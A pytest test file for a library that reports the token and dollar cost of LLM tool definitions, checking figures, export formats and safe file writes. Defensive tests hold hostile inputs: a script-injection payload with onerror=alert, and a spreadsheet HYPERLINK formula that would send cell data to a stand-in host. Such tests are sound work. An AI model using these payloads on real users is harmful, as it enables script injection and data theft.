"""report: figures in the HTML checked against the library's functions called separately,
tiktoken as an oracle on a small registry, Markdown/CSV variants, offline HTML and atomic writes."""

import io
import json
import re

import pandas as pd
import pytest
from _oracle import compact
from bs4 import BeautifulSoup
from conftest import DATA

import toolsurvey as ts
from toolsurvey.core.registry import Registry, Tool
from toolsurvey.core.tokens import get_encoding
from toolsurvey.measuring.footprint import by_server, request_total
from toolsurvey.present.report import document

ENC = get_encoding("o200k_base")  # tiktoken's own Encoding, loaded from the shipped file
SCHEMA = {"type": "object", "properties": {"q": {"type": "string", "description": "search words"}}}
TOOLS = [Tool("search_docs", "Search the documentation by keyword.", SCHEMA, server="docs"),
         Tool("get_page", "Fetch one documentation page by its id.", SCHEMA, server="docs"),
         Tool("restart_service", "Restart a service; not idempotent.", SCHEMA, server="ops")]
REG = Registry.from_tools(TOOLS)


def oracle_tokens(t):
    return len(ENC.encode(compact({"name": t.name, "description": t.description, "inputSchema": t.input_schema})))


def number(text):
    return float(re.sub(r"[^0-9.\-]", "", text))


def soup_of(rep):
    return BeautifulSoup(rep.to_html(), "html.parser")


def table_rows(soup, name):
    t = soup.find("table", attrs={"data-table": name})
    head = [th.get_text() for th in t.thead.find_all("th")]
    return head, [[td.get_text() for td in tr.find_all("td")] for tr in t.tbody.find_all("tr")]


# A price row of our own, so the expected dollars below do not depend on the bundled price table.
PRICE = {"input": 2.0, "output": 10.0, "cache_write": 2.5, "cache_read": 0.2,
         "context_window": 100_000, "min_cache_tokens": 1024}


def scenario(**changes):
    from toolsurvey.model.scenario import Scenario

    base = dict(model="test-model", prices={"test-model": PRICE}, steps=3, accuracy=False,
                system_prompt_tokens=100, user_message_tokens=50, call_tokens=60, response_tokens=500,
                answer_tokens=300, tasks_per_day=1000, days_per_month=30, caching="none")
    return Scenario(**{**base, **changes})


@pytest.fixture(scope="module")
def small():
    return ts.report(REG, scenario=scenario())


def test_headline_tokens_equal_tiktoken_on_each_tool(small):
    soup = soup_of(small)
    shown = soup.find(attrs={"data-figure": "tool_tokens_per_request"}).get_text()
    assert number(shown) == sum(oracle_tokens(t) for t in TOOLS)


def figure(soup, key):
    return number(soup.find(attrs={"data-figure": key}).get_text())


def test_costs_worked_out_by_hand(small):
    """3 requests: each carries the tools T, system 100 and user 50; history grows by call 60 +
    result 500 per earlier call; output is 60 per call and 300 for the answer."""
    soup = soup_of(small)
    t = sum(oracle_tokens(x) for x in TOOLS)
    input_tokens = 3 * (t + 150) + (0 + 560 + 1120)
    output_tokens = 2 * 60 + 300
    cost = (input_tokens * 2.0 + output_tokens * 10.0) / 1e6
    assert figure(soup, "tokens_per_task") == input_tokens + output_tokens
    assert figure(soup, "cost_per_task") == pytest.approx(cost, abs=0.00005)
    assert figure(soup, "cost_per_month") == pytest.approx(cost * 30_000, abs=0.5)
    assert figure(soup, "share_tools") == round(100 * 3 * t / (input_tokens))
    assert figure(soup, "share_history") == round(100 * 1680 / input_tokens)


def test_figures_match_simulate_called_separately():
    from toolsurvey.model.simulate import simulate

    sc = scenario(steps=7, accuracy=True, caching="prefix", tasks_per_day=2500)
    soup = soup_of(ts.report(REG, scenario=sc))
    want = simulate(REG, sc).summary
    assert figure(soup, "cost_per_completed_task") == pytest.approx(want["cost_per_completed_task"], abs=0.00005)
    assert figure(soup, "cost_per_month") == pytest.approx(want["cost_per_month"], abs=0.5)
    # The caching lever's saving is the difference of two simulations.
    # (a system prompt long enough for the provider to cache it)
    rep = ts.report(REG, scenario=scenario(steps=7, system_prompt_tokens=3000))
    saving = simulate(REG, scenario(steps=7, system_prompt_tokens=3000)).summary["cost_per_month"] - \
        simulate(REG, scenario(steps=7, system_prompt_tokens=3000, caching="prefix")).summary["cost_per_month"]
    [(label, shown)] = [lever for lever in rep.levers if "prompt caching" in lever[0]]
    assert saving > 0 and shown == pytest.approx(saving)
    assert any(label in b and f"${saving:,.0f}" in b for b in rep.section("summary").bullets)


def test_sensitivity_doubles_with_task_volume(small):
    head, rows = table_rows(soup_of(small), "sensitivity")
    row = next(r for r in rows if r[0] == "Tasks per day")
    low, base, high = (number(row[head.index(c)]) for c in
                       ("Cost per month low", "Cost per month base", "Cost per month high"))
    data = small.tables["sensitivity"].data.set_index("assumption")
    exact = data.loc["Tasks per day"]
    assert exact["cost_per_month_low_usd"] == pytest.approx(exact["cost_per_month_base_usd"] / 2)
    assert exact["cost_per_month_high_usd"] == pytest.approx(exact["cost_per_month_base_usd"] * 2)
    assert (low, base, high) == pytest.approx((exact["cost_per_month_low_usd"], exact["cost_per_month_base_usd"],
                                               exact["cost_per_month_high_usd"]), abs=0.5)  # as shown, rounded
    assert data.loc["Steps per task", "cost_per_month_low_usd"] < data.loc["Steps per task", "cost_per_month_high_usd"]


def test_findings_tokens_match_audit():
    from toolsurvey.advice.audit.run import audit

    bad = Registry.from_tools([Tool("get_x", "Get x.", {"$schema": "http://json-schema.org/draft-07/schema#",
                                                        "type": "object", "properties": {"a": {"type": "string"}}}),
                               *TOOLS])
    rep = ts.report(bad, scenario=scenario())
    f = audit(bad)
    by_rule = rep.tables["findings_by_rule"].data.set_index("rule")["tokens_all_visible"]
    want = f[f["tokens"] > 0].groupby("rule")["tokens"].sum()
    assert by_rule.sort_index().to_dict() == want.sort_index().to_dict()


def test_findings_are_weighted_by_how_often_the_tool_is_visible_and_the_lever_says_what_it_covers():
    from toolsurvey.model.scenario import Phase
    from toolsurvey.model.simulate import simulate

    dollar = {"$schema": "http://json-schema.org/draft-07/schema#", **SCHEMA}
    tools = [Tool("search_docs", TOOLS[0].description, dollar, server="docs"),
             Tool("get_page", TOOLS[1].description, dollar, server="docs"), TOOLS[2]]
    reg = Registry.from_tools(tools)
    # 2 of 4 requests show search_docs, the other 2 show restart_service; get_page is never shown
    sc = scenario(steps=4, strategy="phases", phases=[Phase("look", tools=("search_*",), steps=2),
                                                      Phase("fix", tools=("restart_*",), steps=2)])
    rep = ts.report(reg, scenario=sc)
    saved = oracle_tokens(tools[0]) - oracle_tokens(TOOLS[0])  # the $schema key, by tiktoken
    n = simulate(reg, sc).summary["expected_requests"]  # requests past the schedule stay in "fix"
    by_rule = rep.tables["findings_by_rule"].data.set_index("rule")
    assert by_rule.loc["schema-dollar-schema", "tokens_all_visible"] == 2 * saved  # the audit's figure
    assert by_rule.loc["schema-dollar-schema", "tokens_as_visible"] == pytest.approx(saved * 2 / n)
    [(label, dollars)] = [lv for lv in rep.levers if lv[0].startswith("Fix the audit findings")]
    # get_page is never visible: its finding costs nothing per request, so the lever covers one
    assert "covers the 1 finding of schema-dollar-schema whose fix cuts text" in label and by_rule.loc["schema-dollar-schema", "in_lever"] == "yes"
    rate = (simulate(reg, sc, overhead_tokens=1000 + simulate(reg, sc).assumptions["overhead_tokens"])
            .summary["cost_per_month"] - simulate(reg, sc).summary["cost_per_month"]) / 1000
    assert dollars == pytest.approx(saved * 2 / n * rate)
    covered = by_rule[by_rule["in_lever"] == "yes"]["tokens_as_visible"].sum()
    assert f"({covered:,.0f} tokens per request" in label


def test_the_lever_counts_only_fixes_that_cut_text_and_the_simulation_counts():
    # an over-long description and a heavy output schema: only the description is in the lever
    heavy = {"type": "object", "properties": {f"f{i}": {"type": "string", "description": "a field"} for i in range(40)}}
    long_tool = Tool("search_docs", "Search the documentation by keyword. " * 50, SCHEMA, server="docs",
                     output_schema=heavy)
    rep = ts.report(Registry.from_tools([long_tool, *TOOLS[1:]]), scenario=scenario())
    [(label, _)] = [lv for lv in rep.levers if lv[0].startswith("Fix the audit findings")]
    assert "description-long" in label and "output-schema-heavy" not in label
    want = len(ENC.encode(long_tool.description)) - 150  # down to the band's upper edge
    assert f"({want:,.0f} tokens per request" in label


def test_no_scenario_and_no_usage_log_are_said_in_their_sections():
    rep = ts.report(REG)  # no scenario file and no usage log
    soup = soup_of(rep)
    missing = {p["data-missing"]: p.get_text() for p in soup.find_all(attrs={"data-missing": True})}
    assert set(missing) == {"responses"} and "no usage log was given" in missing["responses"]
    assert rep.section("responses").missing == "Not written: no usage log was given (--usage FILE)."
    assert any(n.startswith("No scenario file was given") for n in rep.section("summary").notes)
    notes = rep.section("method").notes
    assert any(n.startswith("Missing input (scenario): no scenario file was given") for n in notes)
    assert "Missing input (usage): no usage log was given (--usage FILE)." in notes
    assert "(What tool results cost: Not written: no usage log was given" in rep.summary_text().replace("\n", " ")
    assert figure(soup, "tool_tokens_per_request") == sum(oracle_tokens(t) for t in TOOLS)


def test_server_table_matches_by_server(small):
    head, rows = table_rows(soup_of(small), "servers")
    want = by_server(ts.footprint(REG))
    assert [r[0] for r in rows] == list(want["server"])
    tokens_col = head.index("Tokens per request")
    assert [number(r[tokens_col]) for r in rows] == list(want["tokens"])
    docs = oracle_tokens(TOOLS[0]) + oracle_tokens(TOOLS[1])
    assert number(rows[0][tokens_col]) == docs


def test_executive_summary_comes_first(small):
    soup = soup_of(small)
    assert [s["id"] for s in soup.find_all("section")][0] == "summary"
    assert soup.find_all("section")[-1]["id"] == "method"


def test_html_is_self_contained_and_only_our_scripts_may_run(small):
    html = small.to_html()
    soup = BeautifulSoup(html, "html.parser")
    assert not soup.find_all(src=True) and not soup.find_all("link")  # nothing fetched
    scripts = soup.find_all("script")
    markup = re.sub(r"<script>.*?</script>", "", html, flags=re.S)  # plotly.js mentions URLs in strings
    assert not re.search(r"""(src|href)\s*=\s*["']?https?:""", markup)
    assert "plotly.js" in scripts[0].string[:400]  # the bundle itself, inline
    csp = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
    assert "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]
    assert csp.count("'sha256-") == len(scripts)


def test_sample_registry_figures_match_footprint():
    reg = ts.load(DATA / "registries" / "ops_assistant.json")
    soup = soup_of(ts.report(reg, scenario=scenario()))
    shown = soup.find(attrs={"data-figure": "tool_tokens_per_request"}).get_text()
    assert number(shown) == request_total(ts.footprint(reg))
    head, rows = table_rows(soup, "top_tools")
    col = head.index("Tokens per request")
    biggest = ts.footprint(reg).query("kind == 'tool'").nlargest(1, "tokens").iloc[0]
    assert rows[0][1] == biggest["tool"] and number(rows[0][col]) == biggest["tokens"]


def test_markdown_and_csv_carry_the_same_figures(small):
    text = small.to_markdown()
    total = sum(oracle_tokens(t) for t in TOOLS)
    assert f"| {total:,} |" in text
    assert text.index("## Executive summary") < text.index("## Method and assumptions")
    files = small.to_csv()
    summary = pd.read_csv(io.StringIO(files["summary.csv"])).set_index("figure")
    assert summary.loc["tool_tokens_per_request", "value"] == total
    servers = pd.read_csv(io.StringIO(files["servers.csv"]))
    assert list(servers["tokens"]) == list(by_server(ts.footprint(REG))["tokens"])


def test_markdown_escapes_third_party_text():
    evil = Registry.from_tools([Tool("x|y<b>`z`", "desc", SCHEMA, server="s*|*")])
    text = ts.report(evil).to_markdown()
    rows = [line for line in text.splitlines() if line.startswith("| s")]
    assert rows and all(re.sub(r"\\.", "", r).count("|") == r.count("|") - r.count("\\|") for r in rows)
    assert "<b>" not in text and "x\\|y&lt;b&gt;\\`z\\`" in text


@pytest.mark.parametrize("fmt,name", [("html", "r.html"), ("markdown", "r.md")])
def test_failed_render_leaves_the_old_file_and_no_temporary(tmp_path, monkeypatch, small, fmt, name):
    out = tmp_path / name
    out.write_text("previous report")

    def boom(*a, **k):
        raise RuntimeError("disk full halfway")

    monkeypatch.setattr(document, "render_html" if fmt == "html" else "render_markdown", boom)
    with pytest.raises(RuntimeError):
        small.save(out)
    assert out.read_text() == "previous report"
    assert [p.name for p in tmp_path.iterdir()] == [name]


def test_failed_write_leaves_the_old_file(tmp_path, monkeypatch, small):
    out = tmp_path / "r.html"
    out.write_text("previous report")
    import toolsurvey.core.writing as io_mod

    real_fdopen = io_mod.os.fdopen

    class Breaks:
        def __init__(self, f):
            self.f = f

        def __enter__(self):
            return self

        def __exit__(self, *a):
            self.f.close()

        def write(self, data):
            self.f.write(data[: len(data) // 2])  # half the page reaches the disk, then it fails
            raise OSError(28, "No space left on device")

    monkeypatch.setattr(io_mod.os, "fdopen", lambda *a, **k: Breaks(real_fdopen(*a, **k)))
    with pytest.raises(ts.InputError, match="No space left"):
        small.save(out)
    assert out.read_text() == "previous report"
    assert [p.name for p in tmp_path.iterdir()] == ["r.html"]


def test_csv_failure_writes_no_file(tmp_path, monkeypatch, small):
    def boom(self):
        raise RuntimeError("broken table")

    monkeypatch.setattr(document.Report, "to_csv", boom)
    with pytest.raises(RuntimeError):
        small.save(tmp_path / "tables", format="csv")
    assert not (tmp_path / "tables").exists()


def test_cli_prints_summary_and_where_the_report_is(cli, write_json, tmp_path):
    path = write_json([t.to_mcp() for t in TOOLS])
    out_file = tmp_path / "report.html"
    code, out, err = cli("report", path, "-o", out_file)
    assert code == 0 and out_file.exists()
    total = sum(oracle_tokens(t) for t in TOOLS)
    assert f"{total:,}" in out and str(out_file.resolve()) in out
    code, out, err = cli("report", path, "--format", "markdown")
    assert code == 0 and out.startswith("# ") and f"{total:,}" in err
    code, out, err = cli("report", path, "-o", tmp_path / "t.csv")
    assert code == 0 and {p.name for p in (tmp_path / "t").iterdir()} >= {"summary.csv", "servers.csv"}


def test_cli_bad_input(cli, tmp_path):
    (tmp_path / "bad.json").write_text(json.dumps({"nothing": "here"}))
    code, out, err = cli("report", tmp_path / "bad.json", "-o", tmp_path / "r.html")
    assert code == 2 and "bad.json" in err and not (tmp_path / "r.html").exists()
    code, out, err = cli("report", tmp_path / "bad.json", "-o", tmp_path / "no" / "such" / "dir" / "r.html")
    assert code == 2


def test_usage_section_matches_the_log(tmp_path):
    from toolsurvey.model.simulate import simulate

    log = tmp_path / "usage.jsonl"
    calls = [{"tool": "search_docs", "server": "docs", "session": "a", "response_tokens": 900, "arguments": {"q": "x"}},
             {"tool": "search_docs", "server": "docs", "session": "a", "response_tokens": 100, "arguments": {"q": "x"}},
             {"tool": "get_page", "server": "docs", "session": "b", "response_tokens": 200, "arguments": {"q": "y"}}]
    log.write_text("\n".join(json.dumps(c) for c in calls) + "\n")
    sc = scenario()
    rep = ts.report(REG, scenario=sc, usage=log)
    data = rep.tables["responses"].data.set_index("tool")
    assert data.loc["search_docs", "calls"] == 2 and data.loc["search_docs", "response_tokens_mean"] == 500
    assert data.loc["search_docs", "repeated"] == 1  # the same arguments again in the same task
    # Cost per tool = (dollars per month per token of the average result) x share of calls x mean size;
    # the rate comes from two simulations, so the parts add up to the log's average result cost.
    rate = (simulate(REG, sc, response_tokens=600).summary["cost_per_month"]
            - simulate(REG, sc).summary["cost_per_month"]) / 100
    assert data.loc["search_docs", "cost_per_month_usd"] == pytest.approx(rate * 500 * 2 / 3)
    assert data.loc["get_page", "cost_per_month_usd"] == pytest.approx(rate * 200 / 3)
    never = rep.tables["never_called"].data
    assert list(never["tool"]) == ["restart_service"] and never["tokens"][0] == oracle_tokens(TOOLS[2])
    # Removing the never-called tool is a lever whose saving the simulation confirms.
    without = Registry.from_tools(TOOLS[:2])
    saving = simulate(REG, sc).summary["cost_per_month"] - simulate(without, sc).summary["cost_per_month"]
    [(label, shown)] = [lv for lv in rep.levers if "never called" in lv[0]]
    assert shown == pytest.approx(saving) and label.startswith("Remove the 1 tool the usage log")


def test_plan_section_equals_plan_called_separately():
    import warnings

    from toolsurvey.advice.plan.stages import plan
    from toolsurvey.inputs.sources import load_usage

    reg = ts.load(DATA / "registries" / "ops_assistant.json")
    usage = load_usage(DATA / "usage" / "ops_assistant.jsonl")
    sc = scenario(steps=6, system_prompt_tokens=1200)
    rep = ts.report(reg, scenario=sc, usage=usage)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        p = plan(reg, usage=usage, scenario=sc, window_days=90)
    pd.testing.assert_frame_equal(rep.tables["plan"].data, p.table)
    stages = rep.tables["plan_stages"].data
    months = [p.runs[k].summary["cost_per_month"] for k in ("before", "delete", "merge", "trim", "after")]
    assert list(stages["cost_per_month_usd"]) == pytest.approx(months)
    # Each stage's saving is the drop from the stage before; they add up to the plan's whole saving.
    assert stages["saving_per_month_usd"].sum() == pytest.approx(months[0] - months[-1])
    soup = soup_of(rep)
    head, rows = table_rows(soup, "plan")
    shown = {r[0]: r for r in rows}
    assert number(shown["tools registered"][1]) == len(reg) and number(shown["tools registered"][2]) == len(p.after)
    # "Never called" in the usage section names the tools the plan deletes.
    deleted = {a.target for a in p.actions if a.kind == "delete"}
    never = rep.tables["never_called"].data
    assert {f"{s}/{t}" for s, t in zip(never["server"], never["tool"], strict=True)} == deleted


def test_written_report_is_readable_by_others_like_any_new_file(tmp_path, small):
    import os
    import stat

    old = os.umask(0o022)
    try:
        [path] = small.save(tmp_path / "r.html")
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == 0o644


def test_hostile_strings_never_reach_the_markup(tmp_path):
    """Without a browser: the only <script> elements are toolsurvey's, and payload text is escaped."""
    payload = "</script><script>window.__pwned=1</script><img src=x onerror=alert(1)>-->"
    reg = Registry.from_tools([Tool(f"t{payload}", payload * 3, SCHEMA, server=f"s{payload}")])
    rep = ts.report(reg, title=payload)
    html = rep.to_html()
    soup = BeautifulSoup(html, "html.parser")
    scripts = soup.find_all("script")
    charts = sum(len(s.charts) for s in rep.sections)
    assert len(scripts) == 1 + charts  # plotly.js once, then one script per chart
    assert "__pwned" not in scripts[0].string and any("&lt;\\u002fscript&gt;" in s.string for s in scripts[1:])
    assert not soup.find_all("img") and "window.__pwned" in soup.get_text()
    assert html.count("<script") == 1 + charts


def test_cli_missing_inputs_exit_2(cli, write_json, tmp_path):
    path = write_json([t.to_mcp() for t in TOOLS])
    code, out, err = cli("report", path, "--usage", tmp_path / "none.jsonl", "-o", tmp_path / "r.html")
    assert code == 2 and "none.jsonl" in err and not (tmp_path / "r.html").exists()
    code, out, err = cli("report", path, "--scenario", tmp_path / "none.toml", "-o", tmp_path / "r.html")
    assert code == 2 and "none.toml" in err and not (tmp_path / "r.html").exists()


def test_monte_carlo_spread_is_the_runs_percentiles():
    from toolsurvey.model.simulate import simulate

    sc = scenario(steps={"dist": "poisson", "mean": 5}, samples=300, seed=7)
    rep = ts.report(REG, scenario=sc)
    spread = rep.tables["spread"].data.set_index("percentile")
    want = simulate(REG, sc).percentiles
    pd.testing.assert_frame_equal(spread, want, check_names=False)


@pytest.mark.parametrize("model", ["claude-sonnet-4-5", "gpt-4o"])
def test_provider_rendering_follows_the_scenario(model):
    from toolsurvey.model.scenario import Scenario
    from toolsurvey.model.simulate import simulate

    sc = Scenario(model=model, render="auto")
    rep = ts.report(REG, scenario=sc)
    want = simulate(REG, sc).summary["tool_tokens_per_request"]
    assert rep.headlines["tool_tokens_per_request"].value == want
    provider = "Anthropic" if model.startswith("claude") else "OpenAI"
    assert provider in rep.section("method").text[0]
    assert rep.headlines["tool_tokens_per_request"].label == "tokens of tool definitions in every request"


def test_csv_cells_cannot_become_spreadsheet_formulas():
    evil = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
    reg = Registry.from_tools([Tool(evil, "@SUM(1+1)", SCHEMA, server="-2+3")])
    files = ts.report(reg).to_csv()
    servers = pd.read_csv(io.StringIO(files["servers.csv"]))
    assert servers["server"][0] == "'-2+3"
    top = pd.read_csv(io.StringIO(files["top_tools.csv"]))
    assert top["tool"][0] == "'" + evil
    assert all(not line.startswith(("=", "+", "@")) for text in files.values() for line in text.splitlines())


def test_options_given_override_the_scenario_for_the_simulation_too():
    from toolsurvey.model.simulate import simulate

    rep = ts.report(REG, scenario=scenario(), render="openai", model="gpt-4o")
    want = simulate(REG, scenario(render="openai", model="gpt-4o")).summary
    assert rep.headlines["tool_tokens_per_request"].value == want["tool_tokens_per_request"]
    assert rep.headlines["cost_per_month"].value == pytest.approx(want["cost_per_month"])
    assert "OpenAI" in rep.section("method").text[0]


def test_a_plan_that_raises_the_cost_is_shown_as_a_cost(monkeypatch):
    from toolsurvey.advice.plan.stages import plan as real
    from toolsurvey.model.scenario import Phase
    from toolsurvey.present.report import plan as plan_section

    wide = [Phase("all", tools=("*",), steps=3)]
    monkeypatch.setattr(plan_section, "plan", lambda *a, **k: real(*a, **{**k, "phases": wide}))
    sc = scenario(strategy="phases", phases=[Phase("one", tools=("search_*",), steps=3)])
    rep = ts.report(REG, scenario=sc)
    stages = rep.tables["plan_stages"].data
    last = stages.iloc[-1]
    assert last["saving_per_month_usd"] < 0 and last["effect"].startswith("costs $")
    assert "The consolidation plan raises the cost from today's" in rep.summary_text()
